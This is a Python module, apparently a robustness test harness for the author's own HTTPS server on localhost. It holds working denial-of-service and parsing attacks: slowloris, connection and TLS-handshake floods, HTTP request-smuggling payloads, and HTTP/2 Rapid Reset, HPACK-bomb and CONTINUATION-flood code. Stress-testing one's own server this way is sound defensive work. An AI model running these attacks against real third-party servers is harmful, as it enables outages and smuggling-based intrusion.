"""The attacks of scripts/attack. Each `attack_*(port, seconds, worker)` runs in its own process (niced, so
that the attacker, which on a real network sits on another machine, does not starve the server of this
machine's two cores), stays within `seconds`, closes everything it opened and returns a dict of counts.
"""
import asyncio
import copy
import json
import os
import random
import socket
import ssl
import struct
import threading
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame,
                              SettingsFrame)

HOST = "127.0.0.1"
H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GOAWAY, ENHANCE_YOUR_CALM = 7, 0xB


def tls_context(alpn=("http/1.1",)) -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(list(alpn))
    return context


def tls_connect(port, alpn=("http/1.1",), timeout=5.0) -> ssl.SSLSocket:
    raw = socket.create_connection((HOST, port), timeout=timeout)
    try:
        return tls_context(alpn).wrap_socket(raw, server_hostname="localhost")
    except BaseException:
        raw.close()
        raise


def client_hello(alpn=("h2", "http/1.1"), **versions) -> bytes:
    """The bytes of a real ClientHello (first flight) from Python's OpenSSL."""
    context = tls_context(alpn)
    if versions:
        context.set_ciphers("DEFAULT:@SECLEVEL=0")
    for name, value in versions.items():
        setattr(context, name, value)
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def count(stats, key, n=1):
    stats[key] = stats.get(key, 0) + n


def read_until_closed(sock, limit=1 << 20, timeout=3.0) -> bytes:
    """Reads until EOF, `limit` bytes or `timeout`; a reset counts as the end."""
    sock.settimeout(timeout)
    data, deadline = b"", time.monotonic() + timeout
    while len(data) < limit and time.monotonic() < deadline:
        try:
            chunk = sock.recv(65536)
        except (socket.timeout, TimeoutError):
            break
        except (ssl.SSLError, OSError):
            break
        if not chunk:
            break
        data += chunk
    return data


def statuses(data: bytes):
    return [int(line.split(b" ")[1]) for line in data.split(b"\r\n") if line.startswith(b"HTTP/1.1 ") and
            len(line.split(b" ")) > 1 and line.split(b" ")[1].isdigit()]


def run_threads(target, count_threads, *args):
    """Runs `target(stats, *args)` on `count_threads` threads; returns the merged counts."""
    results = [dict() for _ in range(count_threads)]
    threads = [threading.Thread(target=target, args=(results[i], *args), daemon=True) for i in range(count_threads)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    merged = {}
    for result in results:
        for key, value in result.items():
            if key.startswith("max_"):
                merged[key] = max(merged.get(key, 0), value)
            else:
                count(merged, key, value)
    return merged


# -- HTTP/1.1 over TLS --------------------------------------------------------------------------------------

def attack_slowloris(port, seconds, worker, connections=500, fill=b""):
    """`connections` TLS connections per worker that send a request head (starting with `fill`) one header
    every second and never finish it; a connection the server closes is replaced (bounded by the deadline)."""
    deadline = time.monotonic() + seconds
    stats = {}
    context = tls_context()

    async def one(index):
        while time.monotonic() < deadline - 1:
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(HOST, port, ssl=context, server_hostname="localhost"), 10)
            except (OSError, asyncio.TimeoutError, ssl.SSLError):
                count(stats, "connect_failed")
                await asyncio.sleep(0.5)
                continue
            count(stats, "connections")
            opened = time.monotonic()
            writer.write(b"POST /mutate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n" + fill)
            closed_by_server = False
            try:
                n = 0
                while time.monotonic() < deadline and n < 600:
                    n += 1
                    writer.write(f"X-Slow-{n}: {'a' * (n % 7)}\r\n".encode())
                    await writer.drain()
                    try:
                        data = await asyncio.wait_for(reader.read(4096), 1.0)
                    except asyncio.TimeoutError:
                        continue
                    if data:
                        count(stats, f"status_{statuses(data)[0] if statuses(data) else 'other'}")
                    closed_by_server = True
                    break
            except (OSError, ssl.SSLError):
                closed_by_server = True
            if closed_by_server:
                count(stats, "closed_by_server")
                stats["max_lifetime_s"] = max(stats.get("max_lifetime_s", 0), round(time.monotonic() - opened, 1))
            writer.close()
            try:
                await asyncio.wait_for(writer.wait_closed(), 1)
            except (OSError, asyncio.TimeoutError, ssl.SSLError):
                pass

    async def main():
        await asyncio.gather(*(one(i) for i in range(connections)))

    asyncio.run(main())
    return stats


def attack_idle(port, seconds, worker, connections=600, probe_deadline=1.0):
    """`connections` TLS connections per worker, handshake done, then silent until the end; worker 0 also
    probes every second whether a new connection is refused fast (or served) rather than left hanging."""
    deadline = time.monotonic() + seconds
    stats, held = {}, []
    for _ in range(connections):
        if time.monotonic() > deadline - 3:
            break
        try:
            sock = tls_connect(port, timeout=3)
            held.append(sock)
            count(stats, "held")
        except (OSError, ssl.SSLError):
            count(stats, "refused_while_opening")
    time.sleep(1)
    # connections the server closed at once (over --max-connections) read EOF now
    for sock in held:
        sock.setblocking(False)
        try:
            if sock.recv(1) == b"":
                count(stats, "closed_by_server")
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
        except (OSError, ssl.SSLError):
            count(stats, "closed_by_server")
    while worker == 0 and time.monotonic() < deadline - 1:
        started = time.monotonic()
        try:
            with tls_connect(port, timeout=5) as sock:
                sock.settimeout(5)
                sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
                data = sock.recv(4096)
                count(stats, "probe_served" if data.startswith(b"HTTP/1.1 200") else "probe_refused")
        except (OSError, ssl.SSLError):
            count(stats, "probe_refused")
        elapsed = time.monotonic() - started
        stats["max_probe_s"] = max(stats.get("max_probe_s", 0), round(elapsed, 3))
        if elapsed > probe_deadline:
            count(stats, "probe_slow")
        time.sleep(1)
    time.sleep(max(0, deadline - time.monotonic()))
    for sock in held:
        sock.close()
    return stats


def attack_oversized(port, seconds, worker):
    """Loops over: 70 KiB of header fields (431), a 70 KiB request line (431/414), Content-Length 9 MiB with
    the body sent (413), a 9 MiB chunked body (413)."""
    deadline = time.monotonic() + seconds
    big_headers = b"".join(f"X-Fill-{i}: {'v' * 60}\r\n".encode() for i in range(1100))
    shapes = {
        "headers": b"POST /mutate HTTP/1.1\r\nHost: localhost\r\n" + big_headers + b"\r\n",
        "request_line": b"GET /" + b"a" * (70 << 10) + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "content_length": b"POST /mutate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                          b"Content-Length: 9437184\r\n\r\n",
        "chunked": b"POST /mutate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                   b"Transfer-Encoding: chunked\r\n\r\n",
    }
    body = b"{" + b" " * (9 << 20)
    chunk = b"%x\r\n" % (64 << 10) + b" " * (64 << 10) + b"\r\n"

    def loop(stats):
        names = list(shapes)
        n = 0
        while time.monotonic() < deadline and n < 100_000:
            name = names[n % len(names)]
            n += 1
            try:
                with tls_connect(port) as sock:
                    sock.sendall(shapes[name])
                    try:
                        if name == "content_length":
                            sock.sendall(body)
                        elif name == "chunked":
                            for _ in range(150):
                                sock.sendall(chunk)
                            sock.sendall(b"0\r\n\r\n")
                    except (OSError, ssl.SSLError):
                        count(stats, f"{name}_cut_off_while_sending")
                    got = statuses(read_until_closed(sock, 65536, 5))
                    count(stats, f"{name}_{got[0] if got else 'none'}")
            except (OSError, ssl.SSLError):
                count(stats, f"{name}_error")

    return run_threads(loop, 3)


def attack_never_read_h1(port, seconds, worker, connections=24):
    """HTTP/1.1 clients that pipeline requests with ~256 KiB answers and never read: the server must stop
    reading (backpressure) instead of buffering answers without bound."""
    deadline = time.monotonic() + seconds
    from common import REVIEW  # the sample review; a huge uid makes the answer huge
    review = copy.deepcopy(REVIEW)
    review["request"]["uid"] = "u" * (256 << 10)
    body = json.dumps(review).encode()
    request = (b"POST /mutate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
               b"Content-Length: %d\r\n\r\n" % len(body)) + body
    stats, held = {}, []
    for _ in range(connections):
        try:
            sock = tls_connect(port)
            sock.settimeout(0.2)
            held.append(sock)
        except (OSError, ssl.SSLError):
            count(stats, "connect_failed")
    sent = {id(sock): 0 for sock in held}
    while time.monotonic() < deadline - 0.5:
        progress = False
        for sock in held:
            if sent[id(sock)] >= 400:
                continue
            try:
                sock.sendall(request)
                sent[id(sock)] += 1
                progress = True
            except (socket.timeout, TimeoutError):
                pass
            except (OSError, ssl.SSLError):
                sent[id(sock)] = 400
                count(stats, "closed_by_server")
        if not progress:
            time.sleep(0.2)
    stats["requests_sent"] = sum(sent.values())
    stats["max_requests_per_connection"] = max(sent.values(), default=0)
    for sock in held:
        sock.close()
    return stats


def attack_slow_body(port, seconds, worker, connections=32):
    """Connections that announce an 8 MiB body, send all but its last KiB as fast as the server takes it and
    then wait: `connections` at once per worker (a thread each). Without a bound the server would hold
    connections x 8 MiB; with the memory budget it stops reading them (backpressure) and sheds the oldest
    (503 and close) when fast requests need room."""
    deadline = time.monotonic() + seconds
    size = (8 << 20) - 1024
    head = (b"POST /mutate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            b"Content-Length: %d\r\n\r\n" % (size + 1024))
    payload = memoryview(head + b"{" + b" " * (size - 2))

    def one(stats):
        try:
            sock = tls_connect(port, timeout=10)
        except (OSError, ssl.SSLError):
            count(stats, "connect_failed")
            return
        sent = 0
        sock.settimeout(0.5)
        try:
            while sent < len(payload) and time.monotonic() < deadline - 0.5:
                try:
                    sent += sock.send(payload[sent:sent + (256 << 10)])
                except (socket.timeout, TimeoutError, ssl.SSLWantWriteError):
                    continue
            count(stats, "bodies_sent_whole" if sent == len(payload) else "bodies_held_back_by_server")
            stats["max_body_mib_sent"] = max(stats.get("max_body_mib_sent", 0), round(sent / (1 << 20), 1))
            time.sleep(max(0, deadline - time.monotonic()))
            sock.settimeout(0.05)
            data = sock.recv(4096)
            count(stats, "closed_by_server" if data == b"" else f"answered_{(statuses(data) or ['?'])[0]}")
        except (socket.timeout, TimeoutError, ssl.SSLWantReadError):
            count(stats, "still_open_at_end")
        except (OSError, ssl.SSLError):
            count(stats, "closed_by_server")
        finally:
            sock.close()

    return run_threads(one, connections)


def attack_slow_body_256(port, seconds, worker):
    """256 unfinished 8 MiB bodies (2 GiB if buffered whole)."""
    return attack_slow_body(port, seconds, worker, connections=128)


def attack_none(port, seconds, worker):
    """No attack: the legitimate clients alone, the control row that shows what the machine itself costs."""
    time.sleep(seconds)
    return {"idle_seconds": seconds}


def attack_big_heads(port, seconds, worker):
    """Slowloris with 63 KiB of header fields sent at once: 500 connections per worker, each making the
    server hold a head just under the 64 KiB limit until the 10 s header timeout."""
    fill = b"".join(f"X-Fill-{i}: {'v' * 1000}\r\n".encode() for i in range(62))
    return attack_slowloris(port, seconds, worker, fill=fill)


SMUGGLING = {
    "CL+TE": b"POST /mutate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 6\r\n"
             b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "TE+CL": b"POST /mutate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
             b"Content-Length: 40\r\n\r\n0\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "CL,CL differ": b"POST /mutate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 0\r\n"
                    b"Content-Length: 38\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "CL list": b"POST /mutate HTTP/1.1\r\nHost: x\r\nContent-Length: 0, 38\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "CL +sign": b"POST /mutate HTTP/1.1\r\nHost: x\r\nContent-Length: +38\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "TE space before colon": b"POST /mutate HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n"
                             b"0\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "TE obs-fold": b"POST /mutate HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: identity\r\n chunked\r\nContent-Length: 5\r\n\r\n"
                   b"0\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "TE xchunked": b"POST /mutate HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"
                   b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "TE chunked,identity": b"POST /mutate HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n"
                           b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "TE twice": b"POST /mutate HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n"
                b"0\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "TE on HTTP/1.0": b"POST /mutate HTTP/1.0\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n"
                      b"0\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "chunk size overflow": b"POST /mutate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
                           b"10000000000000001\r\nA\r\n0\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "chunk size 0x": b"POST /mutate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
                     b"0x2\r\nAB\r\n0\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "chunk ext bomb": b"POST /mutate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
                      b"1;" + b"a" * 5000 + b"\r\nA\r\n0\r\n\r\n",
    "bare LF chunk": b"POST /mutate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
                     b"2\nAB\n0\n\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "bare CR": b"GET /healthz HTTP/1.1\rHost: x\r\n\r\n",
    "NUL in value": b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: a\x00b\r\n\r\n",
    "space in name": b"GET /healthz HTTP/1.1\r\nHost: x\r\nX A: b\r\n\r\n",
    "no Host": b"GET /healthz HTTP/1.1\r\n\r\n",
    "two Hosts": b"GET /healthz HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    "HTTP/2.0 line": b"GET /healthz HTTP/2.0\r\nHost: x\r\n\r\n",
    "leading whitespace line": b" GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
}
ACCEPTED = {"no Host"}  # not a smuggling shape by itself; a 400 is still the RFC 9112 answer


def attack_smuggling(port, seconds, worker):
    """Each shape on a fresh connection, followed by a request hidden where a lax parser would find a second
    one; the server must answer with a 4xx/5xx and close, never with a second response."""
    deadline = time.monotonic() + seconds

    def loop(stats):
        names = sorted(SMUGGLING)
        n = 0
        while time.monotonic() < deadline and n < 100_000:
            name = names[n % len(names)]
            n += 1
            try:
                with tls_connect(port) as sock:
                    sock.sendall(SMUGGLING[name])
                    got = statuses(read_until_closed(sock, 65536, 3))
            except (OSError, ssl.SSLError):
                count(stats, "connection_error")
                continue
            count(stats, "shapes_sent")
            if len(got) > 1:
                count(stats, f"SMUGGLED:{name}")
            elif not got:
                count(stats, f"NO ANSWER:{name}")
            elif got[0] < 400:
                count(stats, f"ACCEPTED {got[0]}:{name}")
            else:
                count(stats, f"rejected_{got[0]}")

    return run_threads(loop, 2)


# -- TLS ---------------------------------------------------------------------------------------------------

def attack_bad_tls(port, seconds, worker):
    """Random bytes, truncated and corrupted ClientHellos, TLS 1.0/1.1-only hellos, an SSLv2 hello, plain HTTP;
    each on its own connection; plus 100 connections that stop half-way through a ClientHello."""
    deadline = time.monotonic() + seconds
    hello = client_hello()
    old_hello = client_hello(minimum_version=ssl.TLSVersion.TLSv1, maximum_version=ssl.TLSVersion.TLSv1_1)
    rng = random.Random(worker)

    def shapes():
        corrupt = bytearray(hello)
        corrupt[rng.randrange(5, len(corrupt))] ^= 0xFF
        return {
            "random": rng.randbytes(rng.randrange(1, 16384)),
            "truncated_hello": hello[:rng.randrange(1, len(hello))],
            "corrupted_hello": bytes(corrupt),
            "huge_record_length": b"\x16\x03\x01\xff\xff" + hello[5:],
            "tls1.0/1.1_only": old_hello,
            "sslv2_hello": b"\x80\x2e\x01\x00\x02\x00\x15" + rng.randbytes(0x2e - 5),
            "plain_http": b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
            "alert_first": b"\x15\x03\x03\x00\x02\x02\x28",
            "app_data_first": b"\x17\x03\x03\x00\x10" + rng.randbytes(16),
        }

    def loop(stats):
        n = 0
        while time.monotonic() < deadline and n < 100_000:
            n += 1
            for name, data in shapes().items():
                started = time.monotonic()
                try:
                    with socket.create_connection((HOST, port), timeout=5) as sock:
                        sock.sendall(data)
                        sock.shutdown(socket.SHUT_WR) if name == "truncated_hello" else None
                        reply = read_until_closed(sock, 65536, 12)
                    if time.monotonic() - started > 11:
                        count(stats, f"HUNG:{name}")
                    else:
                        how = "alert" if reply[:1] == b"\x15" else "silently"
                        count(stats, f"{name}_closed_{how}")
                except (OSError, ssl.SSLError):
                    count(stats, f"{name}_reset")

    held, stats = [], {}
    for _ in range(100):
        try:
            sock = socket.create_connection((HOST, port), timeout=5)
            sock.sendall(hello[: len(hello) // 2])
            held.append((sock, time.monotonic()))
        except OSError:
            count(stats, "partial_connect_failed")
    merged = run_threads(loop, 2)
    merged.update(stats)
    for sock, opened in held:
        sock.settimeout(0.05)
        try:
            data = sock.recv(4096)
            closed = data == b"" or data[:1] == b"\x15"
        except (socket.timeout, TimeoutError):
            closed = False
        except OSError:
            closed = True
        if closed:
            count(merged, "partial_hello_closed_by_server")
        elif time.monotonic() - opened > 11:
            count(merged, "PARTIAL_HELLO_STILL_OPEN_AFTER_11s")
        else:
            count(merged, "partial_hello_open(<11s)")
        sock.close()
    return merged


def attack_hello_flood(port, seconds, worker):
    """Replays a recorded ClientHello on new connections as fast as one thread can and reads the server's
    first flight (the server pays for key exchange and signature; the attacker pays almost nothing)."""
    deadline = time.monotonic() + seconds
    hello = client_hello()

    def loop(stats):
        n = 0
        while time.monotonic() < deadline and n < 1_000_000:
            n += 1
            try:
                with socket.create_connection((HOST, port), timeout=5) as sock:
                    sock.sendall(hello)
                    reply = sock.recv(65536)
                    count(stats, "server_hellos" if reply[:1] == b"\x16" else "other_replies")
            except OSError:
                count(stats, "errors")
        stats["hellos_per_s"] = round(n / seconds)

    full = {}
    merged = run_threads(loop, 3)
    # and full handshakes, for good measure
    n, started = 0, time.monotonic()
    while time.monotonic() < started + 1 and n < 1000:
        n += 1
        try:
            tls_connect(port).close()
            count(full, "full_handshakes")
        except (OSError, ssl.SSLError):
            count(full, "full_handshake_errors")
    merged.update(full)
    return merged


# -- HTTP/2 ------------------------------------------------------------------------------------------------

class H2:
    """A raw HTTP/2 client connection: frames are built with hyperframe, headers with hpack."""

    def __init__(self, port, settings=None):
        self.sock = tls_connect(port, alpn=("h2",))
        if self.sock.selected_alpn_protocol() != "h2":
            self.sock.close()
            raise ConnectionError("server did not select h2")
        self.encoder = Encoder()
        self.buffer = b""
        self.goaway = None
        frame = SettingsFrame(0)
        frame.settings = settings or {}
        self.sock.sendall(H2_PREFACE + frame.serialize())

    def headers(self, stream_id, end_stream=True, extra=(), end_headers=True, method="GET", path="/healthz"):
        block = self.encoder.encode([(":method", method), (":scheme", "https"), (":authority", "localhost"),
                                     (":path", path), *extra])
        frame = HeadersFrame(stream_id)
        frame.data = block
        frame.flags.add("END_HEADERS") if end_headers else None
        frame.flags.add("END_STREAM") if end_stream else None
        return frame.serialize()

    def send(self, data: bytes, timeout=5.0):
        self.sock.settimeout(timeout)
        self.sock.sendall(data)

    def drain(self, timeout=0.2, limit=16 << 20):
        """Reads what is there (up to `limit` bytes, for `timeout`); notes a GOAWAY; False once closed."""
        self.sock.settimeout(timeout)
        total = 0
        try:
            while total < limit:
                chunk = self.sock.recv(65536)
                if not chunk:
                    return False
                total += len(chunk)
                self.buffer += chunk
                self._scan()
        except (socket.timeout, TimeoutError, ssl.SSLWantReadError):
            return True
        except (OSError, ssl.SSLError):
            return False
        return True

    def _scan(self):
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind = self.buffer[3]
            if kind == GOAWAY and length >= 8:
                self.goaway = struct.unpack(">I", self.buffer[13:17])[0]
            self.buffer = self.buffer[9 + length:]

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def h2_loop(port, seconds, stats, body, settings=None):
    """Runs `body(conn, stats)` on fresh connections until the deadline; records how they ended."""
    deadline = time.monotonic() + seconds
    n = 0
    while time.monotonic() < deadline and n < 100_000:
        n += 1
        try:
            conn = H2(port, settings)
        except (OSError, ssl.SSLError, ConnectionError):
            count(stats, "connect_failed")
            time.sleep(0.05)
            continue
        count(stats, "connections")
        try:
            body(conn, stats, deadline)
            alive = True
            for _ in range(10):
                alive = conn.drain(0.2)
                if not alive or conn.goaway is not None:
                    break
        except (OSError, ssl.SSLError):
            alive = False
        if conn.goaway is not None:
            count(stats, f"goaway_{'ENHANCE_YOUR_CALM' if conn.goaway == ENHANCE_YOUR_CALM else conn.goaway}")
        elif not alive:
            count(stats, "closed_without_goaway")
        else:
            count(stats, "still_open")
        conn.close()


def attack_rapid_reset(port, seconds, worker):
    """HEADERS then RST_STREAM(CANCEL) at once, 1,000 streams per burst (CVE-2023-44487)."""
    def body(conn, stats, deadline):
        stream = 1
        for _ in range(20):
            burst = b"".join(conn.headers(stream + 2 * i) + RstStreamFrame(stream + 2 * i, error_code=8).serialize()
                             for i in range(1000))
            stream += 2000
            conn.send(burst)
            count(stats, "streams_reset", 1000)
            if not conn.drain(0.05) or conn.goaway is not None or time.monotonic() > deadline:
                return
    stats = {}
    h2_loop(port, seconds, stats, body)
    return stats


def attack_settings_ping_flood(port, seconds, worker):
    """SETTINGS (worker 0) or PING (worker 1) frames, 20,000 per connection, not reading the ACKs."""
    def body(conn, stats, deadline):
        if worker % 2 == 0:
            frame = SettingsFrame(0)
            frame.settings = {SettingsFrame.HEADER_TABLE_SIZE: 4096}
            kind = "settings"
        else:
            frame = PingFrame(0)
            frame.opaque_data = b"12345678"
            kind = "pings"
        burst = frame.serialize() * 2000
        for _ in range(10):
            try:
                conn.send(burst, timeout=2)
            except (socket.timeout, TimeoutError):
                count(stats, "send_blocked(backpressure)")
                return
            count(stats, kind + "_sent", 2000)
            if time.monotonic() > deadline:
                return
    stats = {}
    h2_loop(port, seconds, stats, body)
    return stats


def attack_hpack_bomb(port, seconds, worker):
    """A 4 KiB header put into the HPACK dynamic table, then referenced ~16,000 times in one header block
    (~64 MiB decoded), and a block of 8,000 tiny headers; the server must refuse both without decoding them whole."""
    def body(conn, stats, deadline):
        # literal with incremental indexing, new name: 0x40, name, value (lengths < 127 need 1 byte; 4 KiB does not)
        value = b"v" * 4000  # the entry (value + name + 32) must fit the 4,096-byte default table
        literal = b"\x40" + bytes([5]) + b"x-big" + b"\x7f" + _hpack_int(len(value) - 127) + value
        base = conn.encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "localhost"),
                                    (":path", "/healthz")])
        bomb = HeadersFrame(1)
        bomb.data = base + literal + b"\xbe" * 12000  # 0xbe = indexed field 62, the newest dynamic entry
        bomb.flags.add("END_HEADERS")
        bomb.flags.add("END_STREAM")
        many = HeadersFrame(3)
        many.data = conn.encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "localhost"),
                                         (":path", "/healthz")]) + b"".join(
            b"\x00\x01a\x01b" for _ in range(2500))
        many.flags.add("END_HEADERS")
        many.flags.add("END_STREAM")
        conn.send(bomb.serialize() + many.serialize())
        count(stats, "bombs_sent", 2)
    stats = {}
    h2_loop(port, seconds, stats, body)
    return stats


def _hpack_int(value):
    out = b""
    while value >= 128:
        out += bytes([(value & 0x7F) | 0x80])
        value >>= 7
    return out + bytes([value])


def attack_continuation_flood(port, seconds, worker):
    """HEADERS without END_HEADERS followed by an endless run of CONTINUATION frames (CVE-2024-27316 style)."""
    def body(conn, stats, deadline):
        conn.send(conn.headers(1, end_headers=False))
        frame = ContinuationFrame(1)
        frame.data = b"\x00\x03x-a\x10" + b"a" * 16  # literal field, a few bytes each
        chunk = frame.serialize() * 500
        for _ in range(40):
            try:
                conn.send(chunk, timeout=2)
            except (socket.timeout, TimeoutError):
                count(stats, "send_blocked")
                return
            count(stats, "continuations_sent", 500)
            if not conn.drain(0.01) or conn.goaway is not None or time.monotonic() > deadline:
                return
    stats = {}
    h2_loop(port, seconds, stats, body)
    return stats


def attack_zero_window(port, seconds, worker, connections=8):
    """h2 clients that announce a zero receive window and never open it, each with 100 streams asking for
    ~256 KiB answers (a review with a huge uid); held until the end."""
    deadline = time.monotonic() + seconds
    from common import REVIEW
    review = copy.deepcopy(REVIEW)
    review["request"]["uid"] = "u" * (256 << 10)
    payload = json.dumps(review).encode()
    stats, held = {}, []
    for _ in range(connections):
        if time.monotonic() > deadline - 2:
            break
        try:
            conn = H2(port, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        except (OSError, ssl.SSLError, ConnectionError):
            count(stats, "connect_failed")
            continue
        held.append(conn)
        try:
            for i in range(100):
                stream = 1 + 2 * i
                frames = conn.headers(stream, end_stream=False, method="POST", path="/mutate",
                                      extra=[("content-type", "application/json"),
                                             ("content-length", str(len(payload)))])
                for offset in range(0, len(payload), 16384):
                    data = DataFrame(stream)
                    data.data = payload[offset:offset + 16384]
                    if offset + 16384 >= len(payload):
                        data.flags.add("END_STREAM")
                    frames += data.serialize()
                conn.send(frames, timeout=3)
                conn.drain(0.001, limit=1 << 20)
                count(stats, "streams_sent")
        except (socket.timeout, TimeoutError):
            count(stats, "send_blocked")
        except (OSError, ssl.SSLError):
            count(stats, "closed_by_server")
    while time.monotonic() < deadline:
        for conn in held:  # read only what the server may send with a zero window (headers, control frames)
            conn.drain(0.01, limit=1 << 16)
        time.sleep(0.5)
    for conn in held:
        if conn.goaway is not None:
            count(stats, f"goaway_{conn.goaway}")
        conn.close()
    return stats
